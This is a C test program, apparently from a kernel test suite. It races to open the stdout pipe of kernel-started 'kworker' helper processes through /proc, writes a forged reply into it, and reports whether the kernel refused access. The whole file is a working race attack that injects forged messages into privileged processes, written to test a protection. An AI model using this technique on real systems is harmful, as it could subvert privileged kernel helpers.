// SPDX-License-Identifier: GPL-2.0-only
/*
 * Opens the pipe of the process that becomes the handler, between its getting the pipe and its
 * executing the blob, and puts a forged reply into it. Guesses the pids of what the kernel starts.
 *
 * It has the second CPU for itself: what starts takes no break (bpf/dawdle_setup.bpf.c has it take
 * its time).
 *
 * Asked (start.h), it says 'o' if it has the pipe open, as it then goes on to have it, or 'r' if it
 * was refused the pipe.
 */
#include <linux/errno.h>

#include "start.h"

#define GUESSES 3
#define MESSAGE_SIZE 56 /* of struct witness_message (overlay/kernel/umd_witness/message.h) */

static unsigned char forged[MESSAGE_SIZE];

static char catch(long loadavg)
{
	long before = last_pid(loadavg), pid, pipe;

	while (!is_asked(0)) {
		long last = last_pid(loadavg);

		for (pid = before + 1; pid <= last + GUESSES; pid++) {
			pipe = open_of(pid, "fd/1", O_WRONLY | O_NONBLOCK);
			if ((pipe < 0 && pipe != -EACCES) || !is_named(pid, "kworker/")) {
				sys(__NR_close, pipe);
				continue;
			}
			if (pipe < 0)
				return 'r';
			sys(__NR_write, pipe, forged, sizeof(forged));
			return 'o';
		}
	}
	return '-';
}

int main(int argc, char **argv, char **envp)
{
	long loadavg = sys(__NR_open, "/proc/loadavg", O_RDONLY);
	char came;

	(void)argc, (void)argv, (void)envp;
	memset(forged, 0xff, sizeof(forged));
	take_second_cpu();
	do {
		came = catch(loadavg);
	} while (answer_question(came) && came == '-');
	for (;;)
		sys(__NR_pause);
}
